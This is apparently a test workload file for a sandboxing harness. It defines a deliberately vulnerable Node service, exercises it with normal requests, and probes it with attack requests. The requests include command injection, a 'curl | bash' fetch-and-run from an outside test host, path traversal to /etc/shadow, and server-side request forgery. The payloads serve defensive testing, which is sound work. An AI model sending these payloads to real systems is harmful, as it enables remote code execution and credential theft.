/** A Node service with holes in it: what it is for is its load, what it lets in is tried later. */
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { stranger } from "./stranger.ts";
import { expectAnswer, type Workload } from "./workload.ts";

const address = "http://127.0.0.1:3000";
const upstreamPort = 9001;
const outside = `http://${stranger.address}:${stranger.port}/`;
const rounds = 12;
const user = 103;

export const node: Workload = {
  name: "node",
  packages: ["nodejs", "curl"],
  users: { app: user },
  files: {
    "/srv/app/server.js": readFileSync(join(import.meta.dirname, "app/server.js"), "utf8"),
    "/srv/app/views/index.html": "<p>hello</p>\n",
  },
  prepare: "mkdir /srv/app/notes && chown app /srv/app/notes",
  args: ["/usr/bin/node", "/srv/app/server.js"],
  user,
  doors: {
    "a command by a request": { facets: ["file", "exec"], enter: () => isDone("/run?command=id") },
    "curl | bash by a request": {
      facets: ["file", "exec"],
      enter: () => isDone(`/run?command=${encodeURIComponent(`curl ${outside} | bash`)}`),
    },
    "a path out of its folder": {
      facets: ["file"],
      enter: () => isDone("/file?name=../../../etc/shadow"),
    },
    "a request in its name": {
      facets: ["network"],
      enter: () => isDone(`/fetch?from=${encodeURIComponent(outside)}`),
    },
  },

  async answers() {
    expectAnswer("GET /", await ask("/"), [200, "<p>hello</p>\n"]);
  },

  async load() {
    const upstream = createServer((_, answer) => answer.end("upstream"));
    await once(upstream.listen(upstreamPort, "127.0.0.1"), "listening");
    try {
      for (let round = 0; round < rounds; round++) await visit(round);
    } finally {
      upstream.closeAllConnections();
      upstream.close();
    }
  },
};

async function visit(round: number): Promise<void> {
  expectAnswer("GET /", await ask("/"), [200, "<p>hello</p>\n"]);
  expectAnswer("note", await ask(`/note?id=${round}`), [200, ""]);
  expectAnswer("notes", await ask("/notes"), [200, "1"]);
  expectAnswer("forget", await ask(`/forget?id=${round}`), [200, ""]);
  expectAnswer("forgotten", await ask(`/forget?id=${round}`), [500, "ENOENT"]);
  expectAnswer("hash", (await ask("/hash"))[0], 200);
  expectAnswer("packed", (await ask("/packed"))[0], 200);
  expectAnswer("date", (await ask("/date"))[0], 200);
  expectAnswer("upstream", await ask("/upstream"), [200, "upstream"]);
  expectAnswer("missing", await ask("/missing"), [404, ""]);
}

async function isDone(path: string): Promise<boolean> {
  const [status] = await ask(path);
  return status === 200;
}

async function ask(path: string): Promise<readonly [status: number, body: string]> {
  const answer = await fetch(`${address}${path}`, { headers: { connection: "close" } });
  return [answer.status, await answer.text()];
}
